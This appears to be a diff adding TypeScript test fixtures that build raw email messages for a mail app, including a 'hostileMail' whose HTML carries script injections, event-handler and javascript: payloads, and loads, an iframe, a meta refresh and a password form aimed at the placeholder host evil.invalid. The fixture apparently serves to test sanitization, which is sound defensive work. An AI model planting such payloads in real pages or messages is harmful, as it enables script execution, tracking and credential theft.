@@ -1,0 +1,56 @@
+const lines = (...text: string[]) => Buffer.from(text.join('\r\n'));
+
+/** A plain mail of one line. */
+export const textMail = (subject: string, body = 'Hello.') =>
+  lines('From: Ana <ana@sender.test>', `Subject: ${subject}`, 'MIME-Version: 1.0', '', body);
+
+/** Both parts, a code, and everything in the HTML that must never run, load or act. */
+export function hostileMail(subject: string): Buffer {
+  return lines(
+    'From: =?UTF-8?Q?Loja_S=C3=A3o_Jo=C3=A3o?= <loja@shop.test>',
+    `Subject: ${subject}`,
+    'MIME-Version: 1.0',
+    'Content-Type: multipart/alternative; boundary=frontier',
+    '',
+    '--frontier',
+    'Content-Type: text/plain; charset=utf-8',
+    '',
+    'Your verification code is 482913.',
+    '--frontier',
+    'Content-Type: text/html; charset=utf-8',
+    '',
+    '<html><head><style>body { display: none } @import url(http://evil.invalid/a.css)</style>',
+    '<script>window.top.pwned = true; document.title = "pwned"</script></head>',
+    '<body onload="window.top.pwned = true">',
+    '<h1 style="color: rgb(200, 0, 0); background: url(http://evil.invalid/b.png); position: fixed">Welcome</h1>',
+    '<p onclick="window.top.pwned = true">Your verification code is <b>482913</b>.</p>',
+    '<img src="x" onerror="window.top.pwned = true"><img src="http://evil.invalid/pixel.gif" alt="">',
+    '<iframe src="http://evil.invalid/"></iframe><form action="http://evil.invalid/"><input name="password"></form>',
+    '<a href="javascript:window.top.pwned=true">trap</a> <a href="https://shop.test/confirm?token=abc">Confirm your address</a>',
+    '<svg><script>window.top.pwned = true</script></svg><meta http-equiv="refresh" content="0;url=http://evil.invalid/">',
+    '</body></html>',
+    '--frontier--',
+    '',
+  );
+}
+
+/** An HTML mail of about 8 KB, as a shop sends it. */
+export function htmlMail(subject: string): Buffer {
+  const row = (i: number) =>
+    `<tr><td style="padding:8px;font-family:Arial,sans-serif;font-size:14px;color:#333333">Item ${i}</td>` +
+    `<td align="right" style="padding:8px">R$ ${(i * 7.9).toFixed(2)}</td></tr>`;
+  return lines(
+    'Received: from mail.shop.test (mail.shop.test [192.0.2.10]) by mx.test with ESMTPS; Fri, 20 Nov 2026 10:00:00 +0000',
+    'From: Loja <pedidos@shop.test>',
+    'To: someone@efemera.localhost',
+    `Subject: ${subject}`,
+    'Date: Fri, 20 Nov 2026 10:00:00 +0000',
+    'Message-ID: <bench@shop.test>',
+    'MIME-Version: 1.0',
+    'Content-Type: text/html; charset=utf-8',
+    '',
+    '<!DOCTYPE html><html><body style="margin:0;background:#f4f4f4"><table width="600" align="center">',
+    ...Array.from({ length: 46 }, (_, i) => row(i + 1)),
+    '</table><p>Obrigado por comprar conosco.</p></body></html>',
+  );
+}
